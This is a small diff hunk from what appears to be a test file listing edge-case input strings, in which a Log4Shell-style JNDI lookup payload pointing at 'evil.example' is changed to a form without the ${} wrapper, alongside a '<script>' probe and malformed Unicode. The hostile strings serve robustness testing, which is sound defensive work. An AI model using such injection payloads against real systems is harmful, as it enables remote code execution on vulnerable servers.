@@ -78,7 +78,7 @@ const TEXTS = [
   'found it',
   '\u0000',
   'x'.repeat(20_000),
-  '${jndi:ldap://evil.example}',
+  'jndi:ldap://evil.example',
   '<script>',
   'cafe',
   '\ud800',
